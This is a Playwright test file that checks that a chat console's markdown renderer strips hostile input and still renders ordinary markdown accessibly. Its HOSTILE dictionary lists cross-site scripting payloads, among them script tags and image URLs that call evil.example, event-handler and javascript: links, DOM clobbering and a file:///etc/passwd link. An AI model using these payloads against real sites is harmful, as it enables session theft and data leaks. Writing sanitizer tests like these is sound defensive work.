"""Markdown in answers: shown as such, and nothing of a hostile text becomes an element, an address or a request of its own."""

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from tests.e2e.console.chat import ANSWERED, ask, mock_answer


@pytest.fixture
def page(server, visit) -> Page:
    page = visit(f"{server.url}/#playground")
    expect(page.locator("#message")).to_be_focused()
    return page


HOSTILE = {
    "script": "<script>window.evil = 1</script>\n\n<script src='https://evil.example/x.js'></script>",
    "handlers": "<img src=x onerror='window.evil=1'>\n<svg onload=window.evil=1><a href=x onclick=window.evil=1>a</a>",
    "javascript links": "[a](javascript:window.evil=1) [b](JaVaScRiPt:evil) [c](&#106;avascript:evil)",
    "javascript links with blanks": "[d](java\tscript:evil) [e](<java script:evil>) <javascript:evil>",
    "data and file links": "[a](data:text/html,<script>evil</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x)",
    "links into this server": "[a](/v1/models) [b](#overview) [c](//evil.example) [d](metrics)",
    "pictures": '![a](https://evil.example/leak?secret) ![b](x" onerror="window.evil=1) ![c](javascript:evil)',
    "breaking out of attributes": '[a](https://a.example/"onmouseover="window.evil=1 "t" onclick="window.evil=1")',
    "breaking out of code": "```</code></pre><script>window.evil=1</script>\n</code><img src=x>\n```\n`</code><b>`",
    "in tables": "|<script>window.evil=1</script>|[a](javascript:evil)|\n|-|-|\n|<img src=x onerror=evil>|<style>*{}</style>|",
    "frames and forms": "<iframe src='javascript:evil'></iframe><form action=//evil.org><input><base href=//e.org>",
    "clobbering": "<a id=messages name=cookie>x</a><form id=composer></form>\n\n# messages",
    "references": "[a]: javascript:window.evil=1\n\n[a] [a][a] ![a]",
    "math and svg": "<math><mtext><table><mglyph><style><img src=x onerror=evil></style></mglyph></table></mtext></math>",
    "nested deeply": "> " * 3000 + "x",
    "nested lists": "\n".join(" " * (2 * depth) + "- x" for depth in range(100)),
    "slow to parse": "*a_" * 3000,
    "entities": "&lt;script&gt;window.evil=1&lt;/script&gt; &#60;img src=x onerror=window.evil=1&#62;",
}
# The button copies a block of code.
ALLOWED_TAGS = "div p h3 blockquote ul ol li pre code hr br strong em s a table thead tbody tr th td button".upper().split()
ALLOWED_ATTRIBUTES = {"class", "href", "title", "target", "rel", "start", "tabindex", "role", "aria-label", "type"}
FOUND = """() => [...document.querySelectorAll('.assistant .body *')].map(each => ({
    tag: each.tagName, href: each.getAttribute('href'), attributes: each.getAttributeNames(),
}))"""


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_brings_in_nothing_but_text_and_links(page, text):
    mock_answer(page, text)
    ask(page)
    expect(page.locator(ANSWERED)).to_be_visible()

    found = page.evaluate(FOUND)
    hrefs = [each["href"] for each in found if each["href"] is not None]
    assert {each["tag"] for each in found} <= set(ALLOWED_TAGS)
    assert {name for each in found for name in each["attributes"]} <= ALLOWED_ATTRIBUTES
    assert [href for href in hrefs if not href.startswith(("https://", "http://", "mailto:"))] == []
    assert page.evaluate("window.evil") is None
    assert page.locator(".assistant .body").text_content() != ""


MARKDOWN = """# Title

Some **bold**, *slanted* and ~~struck~~ text with `code <b>` &amp; a [link](https://a.example/x).

1. one
2. two
   - [x] done

| a | b |
|---|--:|
| 1 | 2 |

> quoted

```python
print("<hello>")
```
"""


def test_markdown_is_shown_as_such(page):
    mock_answer(page, MARKDOWN)
    ask(page)
    body = page.locator(f"{ANSWERED} .body")
    expect(body).to_be_visible()

    expect(body.locator("h3.depth-1")).to_have_text("Title")
    expect(body.locator("p").first).to_have_text("Some bold, slanted and struck text with code <b> & a link.")
    expect(body.locator("ol > li")).to_have_count(2)
    expect(body.locator("ul > li")).to_have_text("☑ done")
    expect(body.locator("tbody td")).to_have_text(["1", "2"])
    expect(body.locator("blockquote")).to_have_text("quoted")
    expect(body.locator("pre code")).to_have_text('print("<hello>")')
    link = body.locator("a")
    assert {name: link.get_attribute(name) for name in ("href", "target", "rel")} == {
        "href": "https://a.example/x",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_an_answer_with_markdown_is_accessible(server, visit, scheme):
    page = visit(f"{server.url}/#playground", color_scheme=scheme)
    mock_answer(page, MARKDOWN)
    ask(page)
    expect(page.locator(ANSWERED)).to_be_visible()
    found = [Axe().run(page).response["violations"]]
    page.click("#show-code")
    found.append(Axe().run(page).response["violations"])

    assert [[each["id"] for each in violations] for violations in found] == [[], []]


def test_a_block_of_code_can_be_copied(page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    mock_answer(page, MARKDOWN)
    ask(page)
    page.locator("pre").get_by_role("button", name="Copy").click()

    expect(page.locator("pre").get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == 'print("<hello>")'


def test_blocks_that_are_complete_stay_while_an_answer_goes_on(page):
    """A reader may have selected text in them."""
    kept = page.evaluate(
        """async () => {
            const { Markdown } = await import('/console/static/markdown.js');
            const element = document.createElement('div'), markdown = new Markdown(element);
            markdown.show('one\\n\\ntwo', true);
            const first = element.firstElementChild;
            markdown.show('one\\n\\ntwo goes on\\n\\n- three', true);
            return [first === element.firstElementChild, element.textContent];
        }"""
    )

    assert kept == [True, "onetwo goes onthree"]
